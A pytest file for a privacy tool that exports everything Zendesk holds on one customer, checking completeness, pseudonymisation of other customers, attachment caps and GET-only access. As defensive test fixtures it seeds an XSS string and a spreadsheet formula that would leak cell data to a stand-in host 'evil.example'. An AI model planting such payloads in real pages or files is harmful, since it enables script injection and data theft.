"""Access: everything Zendesk holds on a person, conversations first -- over real HTTP
against the sandbox (issue #16). The person's own sentences reach data.json, the CSVs and
index.html; another customer's name does not (default policy); hostile bodies stay inert;
only GET requests are sent; an attachment over the cap is listed, not downloaded; the
attachments host never sees Zendesk credentials."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from privacykit.cli import cli
from privacykit.ledger import Ledger
from privacykit.playbooks.access import REPORT_FILE, validate

PLAYBOOK = Path(__file__).resolve().parent.parent / "playbooks" / "access.yaml"
JANE = "jane.tickets@example.com"
OLGA = "olga.other@example.com"
OLGA_NAME = "Olga Otherperson"
JANE_SENTENCE = "The pedal fell off on my first ride, I would like a refund."
JANE_CC_SENTENCE = "Same here, my order 4711 also arrived without the bell."
OLGA_SECRET = "Olga's unrelated complaint about her neighbour."
HOSTILE = '<script>alert("pwned")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
RECEIPT = b"%PDF-1.4\n% Jane's receipt\n"
BIG = b"B" * 5000


def seed(state: Any, *, comments: int = 150) -> dict[str, Any]:
    """Jane (every user field set), an agent with an alias, Olga (another customer), an
    organization; Jane's ticket with many comments and two attachments, Olga's ticket Jane
    is CC'd on (hostile text), a ticket Jane follows, and Olga's own ticket."""
    org = state.add_organization(
        "Jane's Bike Repairs", details="sole trader", notes="pays late", tags=["vip"]
    )
    jane = state.add_user(
        "Jane Tickets",
        email=JANE,
        verified=True,
        alias="JT",
        notes="called twice about the pedal",
        details="prefers email",
        signature="Cheers, Jane",
        tags=["cyclist"],
        user_fields={"loyalty_tier": "gold"},
    )
    state.add_membership(jane["id"], org["id"])
    agent = state.add_user("Samuel Agent", email="sam@shop.example", role="agent", alias="Sam")
    olga = state.add_user(OLGA_NAME, email=OLGA, verified=True)
    mine = state.add_ticket(
        jane["id"],
        "solved",
        "Pedal fell off",
        description=JANE_SENTENCE,
        assignee_id=agent["id"],
        attachments=[("receipt.pdf", RECEIPT), ("video.mov", BIG)],
    )
    for i in range(comments):
        author = agent["id"] if i % 2 else jane["id"]
        state.add_comment(mine["id"], author, f"message {i} in the long thread")
    state.add_comment(mine["id"], agent["id"], "Internal: refund approved", public=False)
    state.set_satisfaction_rating(mine["id"], "good", "Quick refund, thanks")
    shared = state.add_ticket(olga["id"], "open", FORMULA, description=HOSTILE, ccs=[jane["id"]])
    state.add_comment(shared["id"], jane["id"], JANE_CC_SENTENCE)
    state.set_satisfaction_rating(shared["id"], "bad", "Olga is unhappy")
    followed = state.add_ticket(agent["id"], "open", "Bell recall", followers=[jane["id"]])
    state.add_ticket(olga["id"], "open", "Neighbour", description=OLGA_SECRET)
    return {
        "jane": jane,
        "agent": agent,
        "olga": olga,
        "org": org,
        "mine": mine,
        "shared": shared,
        "followed": followed,
    }


def playbook(tmp_path: Path, *, others: str = "pseudonymise", max_file: int = 1000) -> Path:
    text = PLAYBOOK.read_text(encoding="utf-8")
    text = text.replace("max_file_bytes: 52428800", f"max_file_bytes: {max_file}")
    text = text.replace("  others: pseudonymise", f"  others: {others}")
    copy = tmp_path / f"access-{others}.yaml"
    copy.write_text(text, encoding="utf-8")
    return copy


def run(*args: str) -> Any:
    return CliRunner().invoke(cli, ["access", *args], catch_exceptions=False)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def every_text(directory: Path) -> dict[str, str]:
    """Every text file of the answer (attachments aside), by name."""
    return {
        p.name: p.read_text(encoding="utf-8-sig")
        for p in directory.iterdir()
        if p.is_file() and p.suffix in (".json", ".csv", ".html")
    }


def test_conversations_first_everything_zendesk_holds(
    sandbox: Any, zendesk_env: dict[str, str], home: Path, tmp_path: Path
) -> None:
    people = seed(sandbox.state)
    out = tmp_path / "answer"
    result = run(
        JANE, "--out", str(out), "--no-report", "--json", "--playbook", str(playbook(tmp_path))
    )
    assert result.exit_code == 0, result.output
    [request] = json.loads(result.output)["requests"]
    assert request["outcome"] == "data_found"

    export = json.loads((out / "data.json").read_text(encoding="utf-8"))
    validate(export)
    tickets = {t["id"]: t for t in export["tickets"]}
    assert set(tickets) == {people["mine"]["id"], people["shared"]["id"], people["followed"]["id"]}
    assert tickets[people["mine"]["id"]]["relations"] == ["requested"]
    assert tickets[people["shared"]["id"]]["relations"] == ["ccd"]
    assert tickets[people["followed"]["id"]]["relations"] == ["followed"]
    # Every comment, across pages (the description, 150 messages, an internal note).
    mine = tickets[people["mine"]["id"]]
    assert len(mine["comments"]) == 152
    assert sum(1 for c in mine["comments"] if c["public"] is False) == 1
    assert mine["satisfaction_rating"]["comment"] == "Quick refund, thanks"
    assert export["counts"]["comments"] == 152 + 2 + 1

    # All user fields, organizations and memberships.
    [user] = export["users"]
    for key, value in {
        "alias": "JT",
        "notes": "called twice about the pedal",
        "details": "prefers email",
        "signature": "Cheers, Jane",
        "tags": ["cyclist"],
        "user_fields": {"loyalty_tier": "gold"},
    }.items():
        assert user[key] == value, key
    [org] = export["organizations"]
    assert (org["name"], org["notes"]) == ("Jane's Bike Repairs", "pays late")
    assert export["organization_memberships"][0]["organization_id"] == people["org"]["id"]
    users_csv = read_csv(out / "users.csv")[0]
    assert users_csv["notes"] == "called twice about the pedal" and users_csv["alias"] == "JT"

    # The person's own sentences are in data.json, the CSVs and index.html ...
    texts = every_text(out)
    for sentence in (JANE_SENTENCE, JANE_CC_SENTENCE):
        assert sentence in texts["data.json"]
        assert sentence in texts["comments.csv"]
        assert sentence.replace("'", "&#39;") in texts["index.html"]
    # ... another customer's name and address are nowhere, nor a ticket of hers alone.
    for name, text in texts.items():
        for withheld in (OLGA_NAME, OLGA, OLGA_SECRET, "Olga is unhappy"):
            assert withheld not in text, (name, withheld)
    shared = tickets[people["shared"]["id"]]
    assert shared["requester_id"] == "another customer #1"
    assert shared["comments"][0]["author"] == "another customer #1"
    assert shared["satisfaction_rating"] is None
    assert "metadata" not in shared["comments"][0]  # her IP address and location
    assert {p["kind"] for p in export["people"]} == {"you", "agent", "another_customer"}
    assert "Sam" in {p["shown_as"] for p in export["people"]}

    # Hostile text stays inert: escaped in the page, a formula is text in the CSVs.
    page = texts["index.html"]
    assert "<script" not in page.lower() and "<img" not in page.lower()
    assert "&lt;script&gt;alert(&#34;pwned&#34;)&lt;/script&gt;" in page
    assert set(re.findall(r'href="([^"]*)"', page)) <= {
        "#conversations",
        "#you",
        "#organizations",
        "#profiles",
        "#events",
        "#about",
        f"attachments/{people['mine']['id']}/"
        + next(
            c["attachments"][0]["file"].rsplit("/", 1)[1]
            for c in mine["comments"]
            if c.get("attachments")
        ),
    }
    ticket_rows = {int(r["id"]): r for r in read_csv(out / "tickets.csv")}
    assert ticket_rows[people["shared"]["id"]]["subject"] == "'" + FORMULA
    for name in texts:
        if name.endswith(".csv"):
            for row in read_csv(out / name):
                assert not any(v.startswith(("=", "+", "@")) for v in row.values()), name

    # Attachments: the small one downloaded (bytes and sha256 match), the big one listed.
    files = [a for c in mine["comments"] for a in c.get("attachments") or []]
    receipt = next(a for a in files if a["file_name"] == "receipt.pdf")
    video = next(a for a in files if a["file_name"] == "video.mov")
    assert receipt["downloaded"] is True and (out / receipt["file"]).read_bytes() == RECEIPT
    assert video["downloaded"] is False and video["file"] is None
    assert "per-file cap" in video["not_downloaded_reason"]
    assert (
        not (out / "attachments" / str(people["mine"]["id"]))
        .joinpath(f"{video['id']}-video.mov")
        .exists()
    )
    fetched = sandbox.attachment_log()
    assert [e["attachment_id"] for e in fetched] == [receipt["id"]]
    # The attachments host never saw Zendesk credentials.
    assert not any(e["authorization"] or e["cookie"] for e in fetched)

    # Only GET requests reached Zendesk.
    assert {e["method"] for e in sandbox.request_log()} == {"GET"}
    # No work files left behind.
    assert not [p for p in out.iterdir() if p.name.startswith(".")]
    with Ledger.open(home) as ledger:
        assert ledger.get_request(request["request_id"]).status == "completed"
        dump = json.dumps([e.to_dict() for e in ledger.entries(request["request_id"])])
        for personal in (JANE, JANE_SENTENCE, OLGA_NAME, "Pedal fell off"):
            assert personal not in dump


def test_keep_policy_names_other_customers(
    sandbox: Any, zendesk_env: dict[str, str], home: Path, tmp_path: Path
) -> None:
    seed(sandbox.state, comments=2)
    out = tmp_path / "keep"
    result = run(
        JANE, "--out", str(out), "--no-report", "--playbook", str(playbook(tmp_path, others="keep"))
    )
    assert result.exit_code == 0, result.output
    export = json.loads((out / "data.json").read_text(encoding="utf-8"))
    assert export["others"]["policy"] == "keep"
    assert OLGA_NAME in {p["shown_as"] for p in export["people"]}


def test_report_says_prepared_and_what_is_not_covered(
    sandbox: Any, zendesk_env: dict[str, str], home: Path, evidence_home: Path, tmp_path: Path
) -> None:
    from pypdf import PdfReader

    seed(sandbox.state, comments=2)
    out = tmp_path / "report"
    result = run(JANE, "--out", str(out), "--playbook", str(playbook(tmp_path)))
    assert result.exit_code == 0, result.output
    text = " ".join((page.extract_text() or "") for page in PdfReader(out / REPORT_FILE).pages)
    text = " ".join(text.split())
    assert "prepared" in text.lower() and "delivered" not in text.lower()
    assert "Help Center" in text and "not rewritten" in text
    for personal in (JANE_SENTENCE, OLGA_NAME, JANE):
        assert personal not in text


def test_malformed_comments_answer_needs_review_and_nothing_is_delivered(
    sandbox: Any, zendesk_env: dict[str, str], home: Path, tmp_path: Path
) -> None:
    seed(sandbox.state, comments=2)
    sandbox.configure({"malformed": {"GET /api/v2/tickets/{id}/comments": "null_collection"}})
    out = tmp_path / "malformed"
    result = run(
        JANE, "--out", str(out), "--no-report", "--json", "--playbook", str(playbook(tmp_path))
    )
    assert result.exit_code == 1, result.output
    [request] = json.loads(result.output)["requests"]
    assert request["outcome"] == "needs_review"
    assert any("GET /api/v2/tickets/{id}/comments" in r for r in request["reasons"])
    assert not out.exists()  # nothing delivered, no work files (nor an empty folder) left
    with Ledger.open(home) as ledger:
        assert ledger.get_request(request["request_id"]).status == "needs_review"


@pytest.mark.parametrize("relation", ["ccd", "followed"])
def test_a_listing_that_fails_is_never_no_data(
    sandbox: Any, zendesk_env: dict[str, str], home: Path, tmp_path: Path, relation: str
) -> None:
    seed(sandbox.state, comments=0)
    endpoint = f"GET /api/v2/users/{{id}}/tickets/{relation}"
    sandbox.configure({"malformed": {endpoint: "html_maintenance"}})
    out = tmp_path / relation
    result = run(
        JANE, "--out", str(out), "--no-report", "--json", "--playbook", str(playbook(tmp_path))
    )
    assert result.exit_code == 1, result.output
    [request] = json.loads(result.output)["requests"]
    assert request["outcome"] == "needs_review" and request["files"] == []
